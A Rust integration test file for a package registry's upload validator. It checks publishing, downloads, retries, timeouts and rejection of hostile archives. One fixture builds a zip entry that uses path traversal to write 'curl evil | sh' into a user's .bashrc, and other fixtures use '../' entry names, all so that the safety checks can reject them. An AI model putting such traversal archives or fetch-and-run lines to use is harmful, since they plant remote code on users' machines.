//! End to end on the emulator: a package uploaded through presigned URLs
//! raises S3's `ObjectCreated`, the relay delivers it to the validator as
//! Lambda would, and the version ends `published` (and downloads intact) or
//! `rejected` with the failing check.

mod support;

use std::time::{Duration, Instant};

use aws_sdk_dynamodb::types::AttributeValue;
use devstack::bootstrap::Stack;
use lambda_runtime::{Context, LambdaEvent};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use shared::auth::Role;
use support::Api;
use validator::testzip::{Options, Spec, build, manifest};

/// Uploads `bytes` as `name@version` in one part and completes it.
async fn upload(
    api: &Api,
    bearer: &str,
    name: &str,
    version: &str,
    bytes: &[u8],
    sha256: Option<String>,
) {
    let mut body = json!({"size": bytes.len()});
    if let Some(sha) = sha256 {
        body["sha256"] = json!(sha);
    }
    let (status, started) = api
        .call(
            "POST",
            &format!("/v1/packages/{name}/versions/{version}/uploads"),
            Some(bearer),
            Some(body),
        )
        .await;
    assert_eq!(status, 201, "{started}");
    let url = started["parts"][0]["url"].as_str().expect("url");
    let put = api
        .http
        .put(url)
        .body(bytes.to_vec())
        .send()
        .await
        .expect("PUT");
    let etag = put.headers()["etag"].to_str().expect("etag").to_owned();
    let id = started["upload_id"].as_str().expect("id");
    let (status, done) = api
        .call(
            "POST",
            &format!("/v1/uploads/{id}/complete"),
            Some(bearer),
            Some(json!({"parts": [{"part_number": 1, "etag": etag}]})),
        )
        .await;
    assert_eq!(status, 202, "{done}");
}

/// Polls the version until the validator has decided.
async fn verdict(api: &Api, bearer: &str, name: &str, version: &str) -> Value {
    let started = Instant::now();
    loop {
        let (_, v) = api
            .call(
                "GET",
                &format!("/v1/packages/{name}/versions/{version}"),
                Some(bearer),
                None,
            )
            .await;
        if v["status"] != "validating" {
            return v;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no verdict within 30 s: {v}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test]
async fn uploaded_package_is_validated_published_and_hostile_one_rejected() {
    let (aws, template, stack) = support::stack("validate").await;
    let api = Api::new(support::serve(&aws, &template, &stack).await);
    let relays = devstack::relay::spawn_all(&stack, &aws).expect("relays start");
    let password = support::user(&aws, &stack, "val1", &[Role::Publisher], &[]).await;
    let bearer = api.bearer("val1", &password).await;

    let good = build(
        &[
            Spec::deflated("tool/package.json", &manifest("tool", "1.0.0")),
            Spec::stored("tool/README.md", b"# tool"),
            Spec::deflated("tool/bin/run.sh", &b"echo hello\n".repeat(100)),
        ],
        &Options::default(),
    );
    let digest: String = Sha256::digest(&good)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    upload(&api, &bearer, "tool", "1.0.0", &good, Some(digest.clone())).await;

    let mut evil_entries = vec![
        Spec::deflated("package.json", &manifest("evil", "0.1.0")),
        Spec::stored("README", b"totally fine"),
    ];
    evil_entries.push(Spec::stored("../../home/user/.bashrc", b"curl evil | sh"));
    let evil = build(&evil_entries, &Options::default());
    upload(&api, &bearer, "evil", "0.1.0", &evil, None).await;

    let published = verdict(&api, &bearer, "tool", "1.0.0").await;
    assert_eq!(published["status"], "published", "{published}");
    assert_eq!(published["sha256"], digest.as_str());
    assert_eq!(published["validation"]["status"], "passed");
    assert_eq!(published["validation"]["manifest"]["name"], "tool");
    assert_eq!(
        published["validation"]["checks"].as_array().map(Vec::len),
        Some(13)
    );
    let (status, link) = api
        .call(
            "GET",
            "/v1/packages/tool/versions/1.0.0/download",
            Some(&bearer),
            None,
        )
        .await;
    assert_eq!(status, 200, "{link}");
    let downloaded = api
        .http
        .get(link["url"].as_str().expect("url"))
        .send()
        .await
        .expect("GET")
        .bytes()
        .await
        .expect("body");
    assert!(
        downloaded.as_ref() == good.as_slice(),
        "the published object downloads intact"
    );
    let (_, pkg) = api
        .call("GET", "/v1/packages/tool", Some(&bearer), None)
        .await;
    assert_eq!(pkg["latest_version"], "1.0.0");

    let rejected = verdict(&api, &bearer, "evil", "0.1.0").await;
    assert_eq!(rejected["status"], "rejected", "{rejected}");
    let failed: Vec<&str> = rejected["validation"]["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .filter(|c| c["ok"] == false)
        .map(|c| c["id"].as_str().expect("id"))
        .collect();
    assert_eq!(failed, ["zip.paths_safe"]);
    let (status, _) = api
        .call(
            "GET",
            "/v1/packages/evil/versions/0.1.0/download",
            Some(&bearer),
            None,
        )
        .await;
    assert_eq!(status, 409, "a rejected version never downloads");

    // S3 may deliver an event twice: a decided version is left as it is.
    let state = validator::State::new(&stack.env("validator"), &aws).expect("validator state");
    let object = validator::UploadedObject {
        bucket: stack.physical("PackageBucket").expect("bucket").to_owned(),
        key: "packages/tool/1.0.0/tool-1.0.0.zip".into(),
        size: None,
        version_id: None,
    };
    assert_eq!(
        validator::process(&state, &object)
            .await
            .expect("processed"),
        validator::Outcome::Ignored("not validating")
    );
    let again = verdict(&api, &bearer, "tool", "1.0.0").await;
    assert_eq!(again["status"], "published");
    for relay in relays {
        relay.abort();
    }
}

// Nothing gets stuck: a version never stays `validating` for good.

/// A valid package named `name@version`.
fn package(name: &str, version: &str) -> Vec<u8> {
    build(
        &[
            Spec::deflated("package.json", &manifest(name, version)),
            Spec::stored("README.md", b"# a package"),
        ],
        &Options::default(),
    )
}

/// The S3 event Lambda would deliver for `key` (the sample, pointed at this stack).
fn object_created(stack: &Stack, key: &str, size: usize) -> aws_lambda_events::event::s3::S3Event {
    let sample =
        std::fs::read_to_string(devstack::repo_root().join("events/validator-object-created.json"))
            .expect("sample event");
    let mut event: Value = serde_json::from_str(&sample).expect("sample is JSON");
    let s3 = &mut event["Records"][0]["s3"];
    s3["bucket"]["name"] = json!(stack.physical("PackageBucket").expect("bucket"));
    s3["object"]["key"] = json!(key);
    s3["object"]["size"] = json!(size);
    s3["object"]["versionId"] = Value::Null;
    serde_json::from_value(event).expect("an S3 event")
}

/// One invocation, as Lambda makes it; `deadline_in` from now.
async fn invoke(
    state: &validator::State,
    event: &aws_lambda_events::event::s3::S3Event,
    deadline_in: Option<Duration>,
) -> Result<(), lambda_runtime::Error> {
    let mut context = Context::default();
    context.request_id = uuid::Uuid::new_v4().to_string();
    if let Some(left) = deadline_in {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .expect("clock")
            .as_millis() as u64;
        context.deadline = now + left.as_millis() as u64;
    }
    validator::handle(LambdaEvent::new(event.clone(), context), state).await
}

async fn version_of(api: &Api, bearer: &str, name: &str, version: &str) -> Value {
    let (status, v) = api
        .call(
            "GET",
            &format!("/v1/packages/{name}/versions/{version}"),
            Some(bearer),
            None,
        )
        .await;
    assert_eq!(status, 200, "{v}");
    v
}

/// The `(id, ok, message)` of every check in a version's report.
fn checks(v: &Value) -> Vec<(String, bool, String)> {
    v["validation"]["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .map(|c| {
            (
                c["id"].as_str().unwrap_or_default().to_owned(),
                c["ok"].as_bool().unwrap_or(true),
                c["message"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

/// A publisher's bearer and a stack with no relay: each test invokes the
/// validator itself, attempt by attempt, as Lambda would.
async fn setup(hint: &str) -> (aws_config::SdkConfig, Stack, Api, String, validator::State) {
    let (aws, template, stack) = support::stack(hint).await;
    let api = Api::new(support::serve(&aws, &template, &stack).await);
    let password = support::user(&aws, &stack, "pub1", &[Role::Publisher], &[]).await;
    let bearer = api.bearer("pub1", &password).await;
    let state = validator::State::new(&stack.env("validator"), &aws).expect("validator state");
    (aws, stack, api, bearer, state)
}

#[test]
fn validator_gives_up_on_the_last_attempt_lambda_makes() {
    // Lambda retries a failed asynchronous invocation `MaximumRetryAttempts`
    // times: the validator must record its verdict on the last of them.
    let template = devstack::template::Template::repo().expect("template.yaml parses");
    let function = template
        .function_by_binary("validator")
        .expect("the validator function");
    let resource = template
        .resources
        .iter()
        .find(|r| r.logical_id == function.logical_id)
        .expect("its resource");
    let retries = resource.properties["EventInvokeConfig"]["MaximumRetryAttempts"]
        .as_u64()
        .expect("MaximumRetryAttempts is set");
    assert_eq!(u64::from(validator::MAX_ATTEMPTS), retries + 1);
}

#[tokio::test]
async fn unreadable_object_ends_rejected_after_its_last_attempt() {
    let (aws, stack, api, bearer, state) = setup("gone").await;
    let bytes = package("gone", "1.0.0");
    upload(&api, &bearer, "gone", "1.0.0", &bytes, None).await;
    let key = "packages/gone/1.0.0/gone-1.0.0.zip";
    // The object disappears before the validator reads it.
    aws_sdk_s3::Client::new(&aws)
        .delete_object()
        .bucket(stack.physical("PackageBucket").expect("bucket"))
        .key(key)
        .send()
        .await
        .expect("object deleted");
    let event = object_created(&stack, key, bytes.len());
    for attempt in 1..validator::MAX_ATTEMPTS {
        assert!(
            invoke(&state, &event, None).await.is_err(),
            "attempt {attempt} fails, so Lambda retries it"
        );
        let v = version_of(&api, &bearer, "gone", "1.0.0").await;
        assert_eq!(v["status"], "validating", "after attempt {attempt}: {v}");
    }
    invoke(&state, &event, None)
        .await
        .expect("the last attempt records its verdict");
    let v = version_of(&api, &bearer, "gone", "1.0.0").await;
    assert_eq!(v["status"], "rejected", "{v}");
    let checks = checks(&v);
    assert_eq!(checks.len(), 1, "{v}");
    let (id, ok, message) = &checks[0];
    assert_eq!((id.as_str(), *ok), ("validation.complete", false), "{v}");
    assert!(message.contains("3 attempts"), "{message}");
    assert!(message.contains("HeadObject"), "{message}");
    assert!(
        !message.contains("DispatchFailure") && !message.contains("SdkError"),
        "only AWS's code and message reach the report: {message}"
    );
    // A late duplicate of the event changes nothing.
    invoke(&state, &event, None).await.expect("ignored");
    let again = version_of(&api, &bearer, "gone", "1.0.0").await;
    assert_eq!(again["status"], "rejected");
}

#[tokio::test]
async fn attempt_out_of_time_is_retried_and_the_last_one_records_rejected() {
    let (_aws, stack, api, bearer, state) = setup("slow").await;
    let bytes = package("slow", "1.0.0");
    upload(&api, &bearer, "slow", "1.0.0", &bytes, None).await;
    let event = object_created(&stack, "packages/slow/1.0.0/slow-1.0.0.zip", bytes.len());
    // Each invocation's deadline leaves less than the time kept back to record a verdict.
    let short = Some(validator::RESERVE / 2);
    for attempt in 1..validator::MAX_ATTEMPTS {
        assert!(
            invoke(&state, &event, short).await.is_err(),
            "attempt {attempt}"
        );
        let v = version_of(&api, &bearer, "slow", "1.0.0").await;
        assert_eq!(v["status"], "validating", "after attempt {attempt}: {v}");
    }
    invoke(&state, &event, short)
        .await
        .expect("the last attempt records its verdict");
    let v = version_of(&api, &bearer, "slow", "1.0.0").await;
    assert_eq!(v["status"], "rejected", "{v}");
    let checks = checks(&v);
    assert_eq!(checks[0].0, "validation.complete", "{v}");
    assert!(checks[0].2.contains("ran out of time"), "{v}");
}

#[tokio::test]
async fn version_whose_attempts_were_all_stopped_is_rejected_on_the_next_delivery() {
    let (aws, stack, api, bearer, state) = setup("killed").await;
    let bytes = package("killed", "1.0.0");
    upload(&api, &bearer, "killed", "1.0.0", &bytes, None).await;
    // Three attempts counted, none recorded anything: each was stopped
    // (Lambda's timeout, a crash) after counting itself.
    aws_sdk_dynamodb::Client::new(&aws)
        .update_item()
        .table_name(stack.physical("PackagesTable").expect("table"))
        .key("pk", AttributeValue::S("PKG#killed".into()))
        .key("sk", AttributeValue::S("V#1.0.0".into()))
        .update_expression("SET #attempts = :n")
        .expression_attribute_names("#attempts", "validation_attempts")
        .expression_attribute_values(":n", AttributeValue::N("3".into()))
        .send()
        .await
        .expect("attempts set");
    let event = object_created(
        &stack,
        "packages/killed/1.0.0/killed-1.0.0.zip",
        bytes.len(),
    );
    invoke(&state, &event, None).await.expect("recorded");
    let v = version_of(&api, &bearer, "killed", "1.0.0").await;
    assert_eq!(v["status"], "rejected", "{v}");
    let checks = checks(&v);
    assert_eq!(checks[0].0, "validation.complete", "{v}");
    assert!(
        checks[0].2.contains("3 attempts ended without a verdict"),
        "{v}"
    );
}

#[tokio::test]
async fn hostile_archive_whose_report_would_not_fit_the_item_is_still_rejected() {
    let (_aws, stack, api, bearer, state) = setup("huge").await;
    // Dozens of unsafe, duplicated names of 60,000 bytes each, and a manifest
    // of nearly 1 MiB: reported in full, the report would pass DynamoDB's
    // 400 KB item limit and the verdict could never be written.
    let long = |prefix: &str, i: usize| format!("{prefix}{i}{}", "a".repeat(60_000));
    let mut entries = vec![
        Spec::deflated(
            "package.json",
            format!(
                r#"{{"name": "huge", "version": "1.0.0", "description": "{}"}}"#,
                "d".repeat(900_000)
            )
            .as_bytes(),
        ),
        Spec::stored("README.md", b"hi"),
    ];
    for i in 0..8 {
        entries.push(Spec::stored(&long("../", i), b"x"));
        entries.push(Spec::stored(&long("dup", i), b"x"));
        entries.push(Spec::stored(&long("DUP", i), b"x"));
    }
    let bytes = build(&entries, &Options::default());
    upload(&api, &bearer, "huge", "1.0.0", &bytes, None).await;
    let event = object_created(&stack, "packages/huge/1.0.0/huge-1.0.0.zip", bytes.len());
    invoke(&state, &event, None)
        .await
        .expect("decided on the first attempt");
    let v = version_of(&api, &bearer, "huge", "1.0.0").await;
    assert_eq!(v["status"], "rejected");
    let failed: Vec<String> = checks(&v)
        .into_iter()
        .filter(|(_, ok, _)| !ok)
        .map(|(id, _, _)| id)
        .collect();
    assert_eq!(
        failed,
        ["zip.paths_safe", "zip.no_duplicates"],
        "{failed:?}"
    );
    assert_eq!(v["validation"]["manifest"]["name"], "huge");
}
